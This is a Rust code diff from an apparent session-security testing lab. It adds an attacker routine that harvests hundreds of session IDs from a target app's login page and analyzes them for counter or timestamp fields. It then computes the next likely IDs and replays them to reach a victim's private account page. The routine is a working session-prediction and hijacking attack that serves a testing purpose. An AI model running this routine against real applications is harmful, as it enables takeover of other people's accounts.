@@ -9,6 +9,7 @@ use base64::Engine;
 use base64::engine::general_purpose::URL_SAFE_NO_PAD;
 
 use crate::actors::{judge, log_in, read_own_note, refused_cookie, replay_session_id, short};
+use crate::analyze::{self, collect::collect};
 use crate::lab::{RunContext, RunError};
 use crate::outcome::{Actor, Verdict};
 
@@ -67,18 +68,21 @@ pub fn analyse(ids: &[String]) -> IdPattern {
 }
 
 pub async fn run(ctx: &mut RunContext) -> Result<Verdict, RunError> {
+    if ctx.target.app.is_some() {
+        return run_through_the_analyzer(ctx).await;
+    }
     let cookie = ctx.target.session_cookie.clone();
     let mut harvested = Vec::new();
     for _ in 0..HARVEST {
         let mut fresh = ctx.browser(Actor::Attacker, "attacker");
-        fresh.open(&ctx.app_url("/login"), None).await?;
+        fresh.open(&ctx.login_url(), None).await?;
         if let Some(c) = fresh.jar.cookies().iter().find(|c| c.name == cookie) {
             harvested.push(c.value.clone());
         }
     }
     if harvested.len() < 2 {
         let mut probe = ctx.browser(Actor::Attacker, "attacker");
-        probe.open(&ctx.app_url("/login"), None).await?;
+        probe.open(&ctx.login_url(), None).await?;
         let why = refused_cookie(&probe)
             .map(|r| format!(": {r}"))
             .unwrap_or_default();
@@ -135,9 +139,9 @@ pub async fn run(ctx: &mut RunContext) -> Result<Verdict, RunError> {
     };
     for k in 1..=GUESSES {
         let guess = last + step * k;
-        let account = ctx.app_url("/account");
+        let account = ctx.proof_url();
         let probe = replay_session_id(ctx, &encode_id(guess), account).await?;
-        if probe.shows(&note) {
+        if probe.shows(&ctx.target, &note) {
             let context = format!("guess #{k} after the last harvested ID: counter value {guess}");
             let action = format!("tried the next IDs after {last}");
             return Ok(judge(
@@ -155,6 +159,114 @@ pub async fn run(ctx: &mut RunContext) -> Result<Verdict, RunError> {
     let tried = ctx.step(
         Actor::Attacker,
         format!("tried the next IDs after {last}"),
+        &evidence,
+    );
+    Ok(Verdict::blocked(evidence, tried))
+}
+
+/// How many IDs the attacker collects from an app the lab did not write.
+const ANALYZER_SAMPLE: usize = 500;
+
+/// Against an app the lab did not write, whose IDs may be in any format: the
+/// attacker runs the token analyzer ([`crate::analyze`]) on a sample of
+/// fresh IDs. Without a counter or timestamp there is nothing to compute.
+/// With one, he computes the next values of the field, written as the app
+/// writes its IDs, and tries each.
+async fn run_through_the_analyzer(ctx: &mut RunContext) -> Result<Verdict, RunError> {
+    let path = ctx.target.login_path().to_string();
+    let tokens = match collect(&ctx.target, &path, ANALYZER_SAMPLE).await {
+        Ok(tokens) => tokens,
+        Err(why) => {
+            let evidence = format!("no IDs to harvest: {why}");
+            let step = ctx.step(
+                Actor::Attacker,
+                format!("opened {path} for session IDs"),
+                &evidence,
+            );
+            return Ok(Verdict::blocked(evidence, step));
+        }
+    };
+    let analysis = analyze::analyse(&path, &tokens).map_err(RunError::Lab)?;
+    let looked = ctx.step(
+        Actor::Attacker,
+        format!(
+            "opened {path} {ANALYZER_SAMPLE} times with fresh browsers and ran the token analyzer on the session IDs"
+        ),
+        format!(
+            "{} ({} of {} bits pass; `sessionlab analyze` shows the details)",
+            analysis.verdict, analysis.effective_bits, analysis.bits
+        ),
+    );
+    let Some(structure) = analysis.structures.first().cloned() else {
+        return Ok(Verdict::blocked(
+            format!(
+                "{ANALYZER_SAMPLE} harvested IDs: {}; nothing to extrapolate",
+                analysis.verdict
+            ),
+            looked,
+        ));
+    };
+    let decoded = analyze::decode::decode_all(&tokens);
+    let Some(sample) = decoded
+        .iter()
+        .rev()
+        .find(|d| d.bytes.len() * 8 == analysis.bits)
+        .cloned()
+    else {
+        return Err(RunError::Lab(
+            "no harvested ID has the analysed length".into(),
+        ));
+    };
+
+    let mut victim = ctx.browser(Actor::Victim, "victim");
+    log_in(ctx, &mut victim, &ctx.victim).await?;
+    let note = read_own_note(ctx, &mut victim).await?;
+    ctx.step(
+        Actor::Victim,
+        format!("{} logged in and opened her account", ctx.victim.username),
+        "saw the page only she sees",
+    );
+
+    let (from, to) = structure.bytes;
+    let step = structure.gap_value.max(1);
+    for k in 1..=GUESSES as u128 {
+        let value = structure.max_value.wrapping_add(step.wrapping_mul(k));
+        let mut bytes = sample.bytes.clone();
+        let width = to - from;
+        let field = if structure.big_endian {
+            value.to_be_bytes()[16 - width..].to_vec()
+        } else {
+            value.to_le_bytes()[..width].to_vec()
+        };
+        bytes[from..to].copy_from_slice(&field);
+        let Some(guess) = analyze::decode::encode_like(&sample, &bytes) else {
+            let evidence = format!(
+                "the IDs have a {} field, but the cookie is signed: a computed ID needs the signing key",
+                structure.kind
+            );
+            let tried = ctx.step(Actor::Attacker, "computed the next IDs", &evidence);
+            return Ok(Verdict::blocked(evidence, tried));
+        };
+        let account = ctx.proof_url();
+        let probe = replay_session_id(ctx, &guess, account).await?;
+        if probe.shows(&ctx.target, &note) {
+            return Ok(judge(
+                ctx,
+                &format!("tried the next values of the {} field", structure.kind),
+                &probe,
+                &note,
+                &format!("guess #{k} after the largest harvested value: {value}"),
+                &format!("ID {}", short(&guess)),
+            ));
+        }
+    }
+    let evidence = format!(
+        "the IDs have a {} field, but none of the next {GUESSES} values opened the victim's page",
+        structure.kind
+    );
+    let tried = ctx.step(
+        Actor::Attacker,
+        format!("tried the next values of the {} field", structure.kind),
         &evidence,
     );
     Ok(Verdict::blocked(evidence, tried))
